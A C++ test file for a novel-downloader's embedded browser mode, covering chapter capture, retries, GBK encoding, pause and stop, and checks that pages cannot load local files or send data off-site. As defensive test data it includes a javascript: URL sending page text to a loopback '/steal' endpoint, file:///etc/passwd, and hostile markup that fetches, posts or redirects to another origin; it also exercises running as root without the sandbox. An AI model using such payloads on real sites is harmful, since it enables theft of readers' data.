// Browser mode: chapter pages whose text is written by script, fetched one
// by one through the embedded browser on the offscreen platform, and what
// that browser refuses to load, show or send.
#include "ui/BrowserTestFixture.h"
#include "ui/NovelJob.h"
#include "ui/PageBrowser.h"
#include "ui/WebView.h"

#include <QApplication>
#include <QDialog>
#include <QMessageBox>

using namespace velmora;
using namespace velmora::test;

TEST_F(BrowserDownloadTest, EngineStartsOnlyWhenBrowserModeIsFirstUsed)
{
    NovelSite site;
    fetchList(site.listUrl());
    button("按钮_下载章节内容")->click();
    EXPECT_FALSE(window().browser().started());
    EXPECT_EQ(window().findChild<QWidget*>("互联网浏览器1"), nullptr);
}

TEST_F(BrowserDownloadTest, SavesScriptBuiltTextOfCheckedRowsOnly)
{
    NovelSiteOptions options;
    options.chapters = 3;
    NovelSite site(options);
    listScriptNovel(site);
    list()->topLevelItem(1)->setCheckState(0, Qt::Unchecked);
    forgetShown();
    button("按钮_下载章节内容")->click();

    EXPECT_EQ(fileBytes(chapterFilePath(site.novelName(), 1)), site.expectedScriptChapterFile(1));
    EXPECT_EQ(fileBytes(chapterFilePath(site.novelName(), 3)), site.expectedScriptChapterFile(3));
    EXPECT_FALSE(fs::exists(chapterFilePath(site.novelName(), 2)));
    EXPECT_EQ(site.requestsFor(2), 0);
    EXPECT_EQ(cell(0, 3), "下载完毕");
    EXPECT_EQ(cell(1, 3), "等待下载");
    auto* view = window().findChild<QWidget*>("互联网浏览器1");
    ASSERT_NE(view, nullptr);
    EXPECT_FALSE(view->isVisible());
    EXPECT_FALSE(view->isEnabled());
    EXPECT_EQ(status(), "整本小说下载完毕");
    EXPECT_EQ(fileBytes(mergedFilePath(site.novelName(), site.author())),
              site.expectedScriptChapterFile(1) + "\r\n\r\n" + site.expectedScriptChapterFile(3));
}

TEST_F(BrowserDownloadTest, TooShortTextGetsFiveAttemptsThenFails)
{
    NovelSiteOptions options;
    options.chapters = 2;
    options.shortText = {1};
    NovelSite site(options);
    listScriptNovel(site);
    button("按钮_下载章节内容")->click();

    EXPECT_EQ(site.requestsFor(1), 5);
    EXPECT_EQ(cell(0, 3), "失败3次");
    EXPECT_TRUE(checked(0));
    EXPECT_FALSE(list()->topLevelItem(0)->isSelected());
    EXPECT_FALSE(fs::exists(chapterFilePath(site.novelName(), 1)));
    EXPECT_EQ(cell(1, 3), "下载完毕");
    EXPECT_EQ(status(), "有1个章节的内容下载失败，请点击继续下载，或直接手动合并小说");
}

// A page that names no charset anywhere is read in the rule's encoding.
TEST_F(BrowserDownloadTest, UndeclaredGbkPageIsReadInTheRulesEncoding)
{
    NovelSiteOptions options;
    options.chapters = 2;
    options.scriptPagesUndeclared = true;
    NovelSite site(options);
    listScriptNovel(site);
    RuleOptions rule = window().ruleSettings()->ruleOptions();
    rule.pageEncoding = PageEncoding::gbk;
    window().ruleSettings()->setRuleOptions(rule);
    button("按钮_下载章节内容")->click();

    for (int n = 1; n <= 2; ++n) {
        EXPECT_EQ(fileBytes(chapterFilePath(site.novelName(), n)), site.expectedScriptChapterFile(n)) << n;
    }
    EXPECT_EQ(status(), "整本小说下载完毕");
}

// Characters GBK lacks become "?" in the capture; a failed attempt says how
// many were put in, not counting the "?" the page shows itself.
TEST_F(BrowserDownloadTest, ShortTextFailureCountsCharactersGbkLacks)
{
    NovelSiteOptions options;
    options.chapters = 1;
    options.shortText = {1};
    options.scriptPageExtra = "<p>?</p>";
    options.scriptTextTail = "\\ud83d\\ude00";  // one character outside GBK, written by the script
    NovelSite site(options);
    listScriptNovel(site);
    button("按钮_下载章节内容")->click();

    EXPECT_EQ(cell(0, 3), "失败3次");
    EXPECT_EQ(list()->topLevelItem(0)->toolTip(3), "抓到的文字不足20字节；1 个字符 GBK 无法表示，记作“?”");
    EXPECT_EQ(window().browser().unrepresentable(), 1u);
}

TEST_F(BrowserDownloadTest, PageThatNeverLoadsHitsTheTimeLimit)
{
    NovelSiteOptions options;
    options.chapters = 2;
    options.neverLoad = {1};
    NovelSite site(options);
    listScriptNovel(site);
    window().job().setPageLoadTimeLimit(300);
    button("按钮_下载章节内容")->click();

    EXPECT_EQ(cell(0, 3), "失败3次");
    EXPECT_EQ(cell(1, 3), "下载完毕");
}

TEST_F(BrowserDownloadTest, PauseHoldsBeforeTheNextRowAndStopLeavesTheRest)
{
    NovelSiteOptions options;
    options.chapters = 6;
    NovelSite site(options);
    listScriptNovel(site);
    // The clicks come from a timer, since the download holds the window
    // thread in its own waits; each step acts once its moment has come.
    int step = 0;
    int requestsWhilePaused = -1;
    QElapsedTimer paused;
    QTimer driver;
    QObject::connect(&driver, &QTimer::timeout, [&] {
        if (step == 0 && site.requestsFor(1) == 1) {
            button("按钮_暂停继续")->click();  // the row under way finishes, the next one waits
            EXPECT_EQ(button("按钮_暂停继续")->text(), "继续");
            paused.start();
            step = 1;
        } else if (step == 1 && paused.elapsed() > 600) {
            requestsWhilePaused = static_cast<int>(site.server().requests().size());
            button("按钮_暂停继续")->click();
            step = 2;
        } else if (step == 2 && site.requestsFor(3) == 1) {
            button("按钮_停止")->click();
            step = 3;
        }
    });
    driver.start(10);
    forgetShown();
    button("按钮_下载章节内容")->click();

    EXPECT_LE(requestsWhilePaused, 3);  // the list, row 1, and at most row 2 begun before the pause
    EXPECT_EQ(cell(0, 3), "下载完毕");
    EXPECT_EQ(cell(5, 3), "等待下载");
    EXPECT_EQ(site.requestsFor(6), 0);
    EXPECT_TRUE(shown().empty());  // a stopped run neither merges nor reports
    EXPECT_TRUE(button("按钮_下载章节内容")->isEnabled());
}

TEST_F(BrowserDownloadTest, StopEndsThePageWaitAtOnce)
{
    NovelSiteOptions options;
    options.chapters = 2;
    options.neverLoad = {1};
    NovelSite site(options);
    listScriptNovel(site);
    QElapsedTimer stopped;
    QTimer driver;
    QObject::connect(&driver, &QTimer::timeout, [&] {
        if (!stopped.isValid() && site.requestsFor(1) == 1) {
            stopped.start();
            button("按钮_停止")->click();
        }
    });
    driver.start(10);
    button("按钮_下载章节内容")->click();  // the page load limit is 30 s
    ASSERT_TRUE(stopped.isValid());
    EXPECT_LT(stopped.elapsed(), 10000);
    EXPECT_EQ(site.requestsFor(1), 1);  // no further attempt
    EXPECT_EQ(cell(0, 3), "等待下载");
    EXPECT_TRUE(checked(0));
    EXPECT_EQ(site.requestsFor(2), 0);
}

TEST(WebAddressTest, TakesOnlyWellFormedHttpAndHttpsAddresses)
{
    struct Case {
        const char* text;
        const char* address;  // as loaded; empty: refused
    };
    for (const Case& c : std::initializer_list<Case>{
             {"http://book.example/1/2.html", "http://book.example/1/2.html"},
             {"HTTPS://Book.Example:8443/a.html?x=1", "https://book.example:8443/a.html?x=1"},
             {"http://book.example/卷一/1.html", "http://book.example/%E5%8D%B7%E4%B8%80/1.html"},
             {"file:///etc/passwd", ""},
             {"javascript:alert(1)", ""},
             {"data:text/html,<b>x</b>", ""},
             {"ftp://book.example/1.html", ""},
             {"book.example/1.html", ""},    // no guessing of a scheme
             {" http://book.example/", ""},  // nor mending of what was given
             {"http://book.example/a b.html", ""},
             {"http:///1.html", ""},
             {"http:1.html", ""},
         }) {
        EXPECT_EQ(webAddress(QString::fromUtf8(c.text)).toEncoded().toStdString(), c.address) << c.text;
    }
}

// Records and closes every dialog that opens while it lives: nothing a page
// does may put one on the screen.
class DialogWatch {
public:
    DialogWatch()
    {
        QObject::connect(&timer_, &QTimer::timeout, [this] {
            for (QWidget* widget : QApplication::topLevelWidgets()) {
                auto* dialog = qobject_cast<QDialog*>(widget);
                if (dialog != nullptr && dialog->isVisible()) {
                    auto* box = qobject_cast<QMessageBox*>(dialog);
                    seen_ << (box != nullptr ? box->text() : dialog->windowTitle());
                    dialog->reject();
                }
            }
        });
        timer_.start(20);
    }

    const QStringList& seen() const { return seen_; }

private:
    QTimer timer_;
    QStringList seen_;
};

TEST_F(BrowserDownloadTest, ListOfFileAndScriptLinksLoadsOnlyTheWebAddress)
{
    // A page that would count as a chapter if it were ever loaded.
    const fs::path secret = folder_ / "secret.html";
    ASSERT_TRUE(replaceFileContent(secret, encoding::toGbk("<html><body>正在玩命为您加载中，请稍后！"
                                                           "这是本机上的私人文件，不能让网页读到的内容。上一章"
                                                           "</body></html>")));
    LoopbackServer exfiltration;
    const int port = freeLoopbackPort();
    NovelSiteOptions options;
    options.scriptLinks = {
        // Slashes past those of the list address leave the prefix empty, so
        // every link is taken as it stands.
        "http://127.0.0.1:" + std::to_string(port) + "/js/1/" + encoding::toGbk("卷一") + "/part/2/section/3/1.html",
        "file://" + secret.string(),
        "javascript:location.href = '" + exfiltration.url("/steal?")
            + "' + encodeURIComponent(document.documentElement.innerText)",
    };
    NovelSite site(options, port);
    control<QListWidget>("列表框1")->setCurrentRow(7);
    fetchList(site.scriptListUrl());
    ASSERT_EQ(list()->topLevelItemCount(), 3);
    ASSERT_EQ(list()->topLevelItem(2)->text(2).toStdString(), encoding::gbkToUtf8(options.scriptLinks[2]));
    window().job().setPageLoadTimeLimit(3000);
    button("按钮_下载章节内容")->click();

    EXPECT_EQ(cell(0, 3), "下载完毕");
    EXPECT_EQ(fileBytes(chapterFilePath(site.novelName(), 1)), site.expectedScriptChapterFile(1));
    for (int row : {1, 2}) {
        EXPECT_EQ(cell(row, 3), "失败3次") << row;
        EXPECT_FALSE(fs::exists(chapterFilePath(site.novelName(), row + 1))) << row;
    }
    EXPECT_TRUE(exfiltration.requests().empty());
}

// A chapter page that tries what pages do to the people who read them.
struct HostilePageCase {
    const char* label;
    std::string markup;  // "{elsewhere}" stands for a site on another port
};

void PrintTo(const HostilePageCase& c, std::ostream* os)
{
    *os << c.label;
}

class HostilePageTest : public BrowserDownloadTest, public testing::WithParamInterface<HostilePageCase> {};

TEST_P(HostilePageTest, ChaptersStillArriveAndNothingLeavesTheSite)
{
    LoopbackServer elsewhere;
    std::string markup = GetParam().markup;
    for (std::size_t at; (at = markup.find("{elsewhere}")) != std::string::npos;) {
        markup.replace(at, 11, elsewhere.url(""));
    }
    NovelSiteOptions options;
    options.chapters = 2;
    // A resource of the page's own site, asked for after the hostile part.
    options.scriptPageExtra = markup + "<img src=\"/js/1/cover.png\">";
    NovelSite site(options);
    listScriptNovel(site);
    DialogWatch dialogs;
    button("按钮_下载章节内容")->click();

    for (int n : {1, 2}) {
        EXPECT_EQ(fileBytes(chapterFilePath(site.novelName(), n)), site.expectedScriptChapterFile(n)) << n;
    }
    EXPECT_TRUE(dialogs.seen().empty()) << dialogs.seen().join(QStringLiteral(" | ")).toStdString();
    EXPECT_TRUE(waitUntil([&] {
        const auto requests = site.server().requests();
        return std::any_of(requests.begin(), requests.end(), [](const RecordedRequest& r) {
            return r.requestLine.find("/cover.png") != std::string::npos;
        });
    }));
    EXPECT_TRUE(elsewhere.requests().empty()) << elsewhere.requests().front().requestLine;
}

// clang-format off
INSTANTIATE_TEST_SUITE_P(BrowserDownload, HostilePageTest, testing::Values(
    HostilePageCase{"alert", "<script>alert(\"本站已更新\")</script>"},
    HostilePageCase{"confirm", "<script>confirm(\"继续阅读？\")</script>"},
    HostilePageCase{"prompt", "<script>prompt(\"请输入验证码\", \"\")</script>"},
    HostilePageCase{"beforeunload", "<script>addEventListener(\"beforeunload\", function (e) { e.preventDefault(); "
                                    "e.returnValue = \"确定离开？\"; return e.returnValue; });</script>"},
    HostilePageCase{"image elsewhere", "<img src=\"{elsewhere}/ad.gif\">"},
    HostilePageCase{"script elsewhere", "<script src=\"{elsewhere}/track.js\"></script>"},
    HostilePageCase{"frame elsewhere", "<iframe src=\"{elsewhere}/frame.html\"></iframe>"},
    HostilePageCase{"fetch elsewhere", "<script>fetch(\"{elsewhere}/collect?t=\" + document.title)</script>"},
    // Leaving once the page has shown its text; leaving sooner would stop its
    // loading in any browser.
    HostilePageCase{"page leaves", "<script>addEventListener(\"load\", function () { "
                                   "location.href = \"{elsewhere}/next.html\"; });</script>"},
    HostilePageCase{"form leaves", "<form id=\"f\" method=\"post\" action=\"{elsewhere}/form\"><input name=\"q\">"
                                   "</form><script>addEventListener(\"load\", function () { "
                                   "document.getElementById(\"f\").submit(); });</script>"}
));
// clang-format on

// Runs as root with the engine's sandbox on, as far as browser mode can
// tell, while it lives: the sandbox settings of the test run are put aside.
class AsRootWithSandboxOn {
public:
    AsRootWithSandboxOn()
    {
        for (const char* name : kSettings) {
            if (qEnvironmentVariableIsSet(name)) {
                saved_.emplace_back(name, qgetenv(name));
            }
            qunsetenv(name);
        }
        setRunningAsRootCheck([] { return true; });
    }

    ~AsRootWithSandboxOn()
    {
        setRunningAsRootCheck(nullptr);
        for (const char* name : kSettings) {
            qunsetenv(name);
        }
        for (const auto& [name, value] : saved_) {
            qputenv(name, value);
        }
    }

private:
    static constexpr const char* kSettings[] = {"QTWEBENGINE_DISABLE_SANDBOX", "QTWEBENGINE_CHROMIUM_FLAGS"};
    std::vector<std::pair<const char*, QByteArray>> saved_;
};

TEST_F(BrowserDownloadTest, NoSandboxOptionLetsRootUseBrowserMode)
{
    NovelSiteOptions options;
    options.chapters = 1;
    NovelSite site(options);
    listScriptNovel(site);
    AsRootWithSandboxOn root;
    char program[] = "velmora";
    char option[] = "--no-sandbox";
    char* arguments[] = {program, option, nullptr};
    applySandboxOption(2, arguments);
    forgetShown();
    button("按钮_下载章节内容")->click();

    EXPECT_EQ(cell(0, 3), "下载完毕");
    EXPECT_EQ(fileBytes(chapterFilePath(site.novelName(), 1)), site.expectedScriptChapterFile(1));
}

// Why browser mode cannot start, and how it is told.
struct RefusalCase {
    const char* label;
    // Makes browser mode unusable until what it returns is dropped.
    std::function<std::shared_ptr<void>(const fs::path& folder)> arrange;
    std::function<bool(const QString& text)> isTheReason;
};

void PrintTo(const RefusalCase& c, std::ostream* os)
{
    *os << c.label;
}

class RefusalTest : public BrowserDownloadTest, public testing::WithParamInterface<RefusalCase> {
protected:
    void TearDown() override
    {
        unusable_.reset();
        BrowserDownloadTest::TearDown();
    }

    std::shared_ptr<void> unusable_;
};

TEST_P(RefusalTest, ToldOncePerRunWithNoRowDone)
{
    NovelSiteOptions options;
    options.chapters = 3;
    NovelSite site(options);
    listScriptNovel(site);
    unusable_ = GetParam().arrange(folder_);
    forgetShown();
    for (int run = 1; run <= 2; ++run) {
        button("按钮_下载章节内容")->click();
        const auto boxes = shown();
        const auto told = std::count_if(boxes.begin(), boxes.end(), [](const Shown& box) {
            return box.caption == "提示" && box.style == styleError && box.timeoutMs == 0
                   && GetParam().isTheReason(box.text);
        });
        EXPECT_EQ(told, run);
    }
    for (int row = 0; row < 3; ++row) {
        EXPECT_EQ(cell(row, 3), "失败3次") << row;
        EXPECT_TRUE(checked(row)) << row;
        EXPECT_FALSE(fs::exists(chapterFilePath(site.novelName(), row + 1))) << row;
        EXPECT_EQ(site.requestsFor(row + 1), 0) << row;
    }
    EXPECT_FALSE(window().browser().started());
}

// clang-format off
INSTANTIATE_TEST_SUITE_P(BrowserDownload, RefusalTest, testing::Values(
    RefusalCase{"root with the sandbox on",
                [](const fs::path&) { return std::make_shared<AsRootWithSandboxOn>(); },
                [](const QString& text) {
                    return text == QStringLiteral("以root身份运行时浏览器模式需要关闭沙箱：请设置环境变量 "
                                                  "QTWEBENGINE_DISABLE_SANDBOX=1（或加上启动参数 --no-sandbox）后重新启动");
                }},
    RefusalCase{"web view module missing",
                [](const fs::path& folder) {
                    setWebViewModule(QString::fromStdString((folder / "lib" / "velmora_webview.so").string()));
                    return std::shared_ptr<void>(nullptr, [](void*) {
                        setWebViewModule(QStringLiteral(VELMORA_WEBVIEW_MODULE_FILE));
                    });
                },
                [](const QString& text) {
                    return text.startsWith(QStringLiteral("浏览器模式无法使用：网页组件加载失败。\r\n"))
                        && text.contains(QStringLiteral("/lib/velmora_webview.so"));
                }}
));
// clang-format on
